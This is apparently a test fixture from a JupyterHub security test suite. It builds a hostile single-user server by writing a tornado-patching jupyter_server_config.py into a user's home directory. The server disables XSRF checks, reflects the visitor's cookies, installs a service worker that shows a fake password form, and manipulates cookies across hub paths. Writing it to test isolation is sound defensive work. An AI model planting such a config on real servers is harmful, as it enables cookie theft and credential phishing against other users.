"""A person's server that is hostile to whoever opens it: its owner controls it wholly, and need not be its owner's."""

from __future__ import annotations

import json
import os
import pwd
import textwrap
from pathlib import Path

# What any person can put into their own ~/.jupyter: the server answers `evil/...` as they like, to anybody.
CONFIG = """
import json, os
from tornado import web

ANSWERS = os.path.join(os.path.dirname(__file__), "answers.json")

class Hostile(web.RequestHandler):
    def prepare(self):
        answers = json.load(open(ANSWERS))
        headers, body = answers[self.request.path.partition("/evil/")[2]]
        for name, values in headers.items():
            for value in values:
                self.add_header(name, value)
        self.finish(body.replace("THEIR COOKIES", self.request.headers.get("Cookie", "")))

    def check_xsrf_cookie(self):
        pass

find_handler = web.Application.find_handler

def hostile(self, request, **kwargs):
    if "/evil/" in request.path:
        return self.get_handler_delegate(request, Hostile)
    return find_handler(self, request, **kwargs)

web.Application.find_handler = hostile
"""

WORKER = "onfetch = event => event.respondWith(new Response('<form>password?</form>'));"


class HostileServer:
    """What alice does to her own server. Use it in a `with`, around its start.

    Args:
        owner: whose.
        script: what the page `evil/page` does. Its last value is awaited by `attack`.
    """

    def __init__(self, owner: str, script: str = "") -> None:
        account = pwd.getpwnam(owner)
        self._ids = account.pw_uid, account.pw_gid
        self._directory = Path(account.pw_dir, ".jupyter")
        self._script = script

    def __enter__(self) -> HostileServer:
        self._directory.mkdir(parents=True, exist_ok=True)
        html = {"Content-Type": ["text/html"]}
        answers = {
            "page": (html, f"<title>Results</title><script>{self._script}</script>"),
            "worker.js": ({"Content-Type": ["text/javascript"], "Service-Worker-Allowed": ["/"]}, WORKER),
            # As the hub's pages answer, to stay in one group of windows with them.
            "friend": (html | {"Cross-Origin-Opener-Policy": ["same-origin"]}, "<title>Friend</title>"),
            "tosses": (
                html
                | {
                    "Set-Cookie": ["a=1; Path=/hub/", "b=1; Path=/", "c=1; Path=/user/bob/", "own=1"],
                    "Clear-Site-Data": ['"cookies"'],
                },
                "<title>Tossed</title>",
            ),
            "cookies": ({"Content-Type": ["text/plain"]}, "THEIR COOKIES"),
        }
        self._write("jupyter_server_config.py", textwrap.dedent(CONFIG))
        self._write("answers.json", json.dumps(answers))
        os.chown(self._directory, *self._ids)
        return self

    def __exit__(self, *error: object) -> None:
        for name in ("jupyter_server_config.py", "answers.json"):
            (self._directory / name).unlink()

    def _write(self, name: str, text: str) -> None:
        (self._directory / name).write_text(text)
        os.chown(self._directory / name, *self._ids)
